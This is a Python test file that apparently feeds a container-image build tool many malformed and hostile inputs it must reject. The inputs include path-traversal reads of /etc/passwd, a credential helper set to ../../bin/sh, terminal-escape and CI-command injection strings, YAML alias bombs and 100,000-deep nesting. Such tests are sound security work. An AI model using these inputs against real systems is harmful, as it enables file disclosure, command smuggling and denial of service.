    "a value with NUL": IMAGE + 'env = { A = "x\\u0000" }\n',
    "a working directory that is relative": IMAGE + 'workdir = "app"\n',
    "a layer of nothing": LAYER,
    "a layer of two things": LAYER + 'copy = ["a"]\narchive = "a.tar"\nto = "/"\n',
    "a copy that climbs": LAYER + 'copy = ["../x"]\nto = "/"\n',
    "a copy that is absolute": LAYER + 'copy = ["/etc/passwd"]\nto = "/"\n',
    "a copy of nothing": LAYER + 'copy = ["gone"]\nto = "/"\n',
    "a place that climbs": LAYER + 'files = { "/../x" = "" }\n',
    "a place that is relative": LAYER + 'files = { "x" = "" }\n',
    "a file that is the root": LAYER + 'files = { "/" = "" }\n',
    "a deletion": LAYER + 'files = { "/.wh.x" = "" }\n',
    "a file below a file": LAYER + 'files = { "/a" = "", "/a/b" = "" }\n',
    "a component of 256 bytes": LAYER + 'files = { "/%s" = "" }\n' % ("n" * 256),
    "a mode that is none": LAYER + 'copy = ["."]\nto = "/"\nmode = "9999"\n',
    "an owner that is none": LAYER + 'copy = ["."]\nto = "/"\nowner = "-1"\n',
    "a digest that is short": LAYER + 'fetch = { url = "https://example.com/x", sha256 = "abc", to = "/x" }\n',
    "a download without a digest": LAYER + 'fetch = { url = "https://example.com/x", to = "/x" }\n',
    "a download from a file": LAYER + 'fetch = { url = "file:///etc/passwd", sha256 = "%s", to = "/x" }\n' % ("a" * 64),
    "a download with a login": LAYER + 'fetch = { url = "https://bob:hunter2@x/y", sha256 = "%s", to = "/x" }\n' % ("a" * 64),
    "an epoch that is none": IMAGE + "[project2]\n",
    "a package that is none": LAYER + 'debian = ["../x"]\n',
    "a wheel outside": LAYER + 'python = { wheels = ["../../*.whl"], target = "/s", version = "3.13" }\n',
    "a version of Python that is none": LAYER + 'python = { wheels = ["*.whl"], target = "/s", version = "x" }\n',
    "a placeholder that nobody knows": IMAGE + 'env = { A = "{git.what}" }\n',
    "a variable that is not set": IMAGE + 'env = { A = "{env.NOT_SET_HERE}" }\n',
    "text that does not end": IMAGE + 'env = { A = "x\n',
    "a table that does not end": "[images.app\n",
    "lists 100,000 deep": IMAGE + "x = " + "[" * 100_000,
    "tables 100,000 deep": IMAGE + "x." * 100_000 + "y = 1\n",
    "a number of 100,000 digits": IMAGE + "x = " + "9" * 100_000 + "\n",
}


def cases_of_recipes():
    for what, body in RECIPES.items():
        yield Case("recipe", what, recipe(body), names="lapstrake.toml")
    for what, data in {
        "nothing": b"",
        "of version 9": b"recipe = 9\n",
        "that is no UTF-8": HEAD.encode() + b'[images.app]\nfrom = "\xff"\n',
        "with NUL": HEAD.encode() + b"\0",
        "of 64 MiB": HEAD.encode() + b"#" * (64 << 20),
        "that is a FIFO": Fifo(),
        "with a byte order mark in the middle": HEAD.encode() + b"\xef\xbb\xbf[images.app]\n",
    }.items():
        yield Case("recipe", what, {"lapstrake.toml": data}, names="lapstrake.toml")


def cases_of_locks():
    body = '[images.app]\nfrom = "scratch"\n[[images.app.layers]]\ndebian = ["dist/tool.deb"]\n'
    for what, data in {
        "nothing": b"",
        "no TOML": b"[[[\n",
        "of version 9": b"lock = 9\n",
        "no version": b"[[debian]]\n",
        "a key that nobody knows": b"lock = 1\nformat = 1\neffects = 2\nwhat = 1\n",
        "a key twice": b"lock = 1\nlock = 1\n",
        "an entry that is no table": b"lock = 1\nformat = 1\neffects = 2\ndebian = 1\n",
        "no UTF-8": b"version = 1\nx = '\xff'\n",
        "64 MiB": b"#" * (64 << 20),
        "lists 100,000 deep": b"x = " + b"[" * 100_000,
        "two entries for one image": b"lock = 1\nformat = 1\neffects = 3\n" + b"".join(
            b'[[image]]\nname = "library/debian:13"\nplatform = "linux/amd64"\nmanifest = "sha256:%s"\nconfig = "sha256:%s"\n'
            % (digit * 64, digit * 64)
            for digit in (b"0", b"1")
        ),
        "names with escape sequences and commands": b"lock = 1\nformat = 1\neffects = 3\n"
        b'[[python]]\nplatform = "\\u001b[2J"\nlayers = ["a\\u001b]0;t\\u0007\\n::error title=x::y"]\nasked = []\nseal = "0"\nwheels = []\n',
    }.items():
        files = {**recipe(body), "ctx/dist/tool.deb": deb(), "lapstrake.lock": data}
        yield Case("lock", what, files, ["build", "--offline", "--locked", "-o", "oci:out"], "lapstrake.lock")


def cases_of_python_locks():
    body = '[images.app]\nfrom = "scratch"\n[[images.app.layers]]\npython = { pylock = "pylock.toml", target = "/site", version = "3.13" }\n'
    package = '[[packages]]\nname = "x"\nversion = "1"\n'
    wheel = 'wheels = [{ name = "x-1-py3-none-any.whl", url = "https://example.com/x-1-py3-none-any.whl", hashes = { %s } }]\n'
    right = 'sha256 = "%s"' % ("a" * 64)
    head = 'lock-version = "1.0"\ncreated-by = "a test"\n'
    for what, text in {
        "nothing": "",
        "no TOML": "[[[",
        "of version 9": head.replace("1.0", "9.0") + package + wheel % right,
        "a wheel without a hash": head + package + wheel % "",
        "a wheel of md5": head + package + wheel % 'md5 = "0123456789abcdef0123456789abcdef"',
        "a hash that is short": head + package + wheel % 'sha256 = "abc"',
        "a wheel of another name": head + package + (wheel % right).replace('name = "x-1', 'name = "y-1'),
        "a wheel with a path": head + package + (wheel % right).replace('name = "x-1', 'name = "../x-1'),
        "a package with a path": head + package.replace('"x"', '"../x"') + wheel % right,
        "a package twice": head + (package + wheel % right) * 2,
        "a package without a file": head + package,
        "a marker that is none": head + package + "marker = \"os_name ==\"\n" + wheel % right,
        "lists 100,000 deep": head + "x = " + "[" * 100_000,
    }.items():
        yield Case("lock of Python packages", what, {**recipe(body), "ctx/pylock.toml": text.encode()}, names="pylock.toml")


def cases_of_requirements():
    body = '[images.app]\nfrom = "scratch"\n[[images.app.layers]]\npython = { requirements = "requirements.txt", target = "/site", version = "3.13" }\n'
    for what, text in {
        "a file that is not there": "-r gone.txt\n",
        "a file that includes itself": "-r requirements.txt\n",
        "a file outside": "-r ../../../etc/passwd\n",
        "a directory": "-e .\n",
        "a hash that is short": "x==1 --hash=sha256:abc\n",
        "an option that nobody knows": "--what=1\n",
        "a name that is none": "../x==1\n",
        "a marker that is none": "x==1; os_name ==\n",
        "a line of 1 MiB": "x" * (1 << 20) + "==\n",
        "no UTF-8": "\udcff==1\n",
    }.items():
        files = {**recipe(body), "ctx/requirements.txt": text.encode("utf-8", "surrogateescape")}
        yield Case("requirements", what, files, names="requirements")


def cases_of_credentials():
    """A registry asks who we are, and what says so cannot be read, or says nothing that could be used."""
    for what, data in {
        "no JSON": b"{",
        "a list": b"[]",
        "two values": b"{}{}",
        "a login that is no base64": b'{"auths":{"@REGISTRY@":{"auth":"!!!"}}}',
        "a login without a colon": b'{"auths":{"@REGISTRY@":{"auth":"Ym9i"}}}',
        "a login that is a number": b'{"auths":{"@REGISTRY@":{"auth":7}}}',
        "a helper with a path": b'{"credHelpers":{"@REGISTRY@":"../../bin/sh"}}',
        "a helper that is not there": b'{"credHelpers":{"@REGISTRY@":"gone"}}',
        "100,000 deep": b'{"auths":' * 100_000,
        "64 MiB": b'{"auths":{}' + b" " * (64 << 20) + b"}",
        "no UTF-8": b'{"auths":{"\xff":{}}}',
        "a FIFO": Fifo(),
        "a key twice": b'{"auths":{},"auths":{}}',
    }.items():
        arguments = ["inspect", "@REGISTRY@/x:1", "--retry", "1", "--authfile", "login.json"]
        # The name of a helper is told, not who names it.
        yield Case("credentials", what, {"login.json": data}, arguments, "gone" if "not there" in what else "login.json")


def cases_of_manifests():
    pod = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: nginx:1\n"
    for what, text in {
        "lists 100,000 deep": "a: " + "[" * 100_000,
        "maps 2000 deep": "".join(" " * depth + "a:\n" for depth in range(2000)),
        "text that does not end": pod + '  - image: "nginx\n',
        "a tab": "a:\n\tb: 1\n",
        "no UTF-8": pod + "  - image: \udcff\n",
        "NUL": pod + "  - image: \0\n",
        "an alias of nothing": pod + "x: *gone\n",
        "an alias of itself": "a: &a [*a]\n",
        "aliases of aliases": "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)),
        "a million aliases": "a: &a " + "x" * 1000 + "\nb:\n" + "- *a\n" * 1_000_000,
        "a key twice": pod + "kind: Pod\n",
        "a file of 50 MB": pod + "# " + "x" * 50_000_000 + "\n",
        "a list of 50 MB": pod + "x:\n" + "- y\n" * 12_500_000,
    }.items():
        files = {"pod.yaml": text.encode("utf-8", "surrogateescape")}
        is_refused = what != "a key twice"
        refs = "registry.example.com/x@sha256:" + "a" * 64 + "\n"
        files["refs"] = refs.encode()
        yield Case("manifest", what, files, ["resolve", "-k", "pod.yaml", "--from", "refs"], "pod.yaml", is_refused)


def cases_of_places():
    for text in [
        "", " ", "oci:", "docker://", "a b", "a\nb", "a\tb", "../x", "/", "oic:x", "registry.example.com/UPPER:1",
        "registry.example.com/x:", "registry.example.com/x@", "registry.example.com/x@sha256:abc", "registry.example.com/x@md5:" + "a" * 32,
        "registry.example.com/x@sha256:" + "A" * 64, "registry.example.com:99999/x", "registry.example.com:x/x", "http://registry.example.com/x",
        "bob:hunter2@registry.example.com/x", "docker://bob:hunter2@registry.example.com/x", "registry.example.com/x:1:2", "registry.example.com//x",
        "registry.example.com/x/../y", "registry.example.com/-x", "x" * 100_000, "type=what,dest=x", "type=oci", "oci:gone", "archive:gone", "oci:/dev/null",
        "archive:/dev/zero", "oci:bob:hunter2@r.example.com/x", "bob:hunter2@localhost", "[::1/x", "registry.example.com/x\u202e:1",
    ]:
        yield Case("place", repr(text[:60]), {}, ["inspect", text])


def all_cases():
    for group in [
        cases_of_archives, cases_of_images, cases_of_saved_images, cases_of_wheels, cases_of_packages, cases_of_recipes, cases_of_locks,
        cases_of_python_locks, cases_of_requirements, cases_of_credentials, cases_of_manifests, cases_of_places,
    ]:
        yield from group()
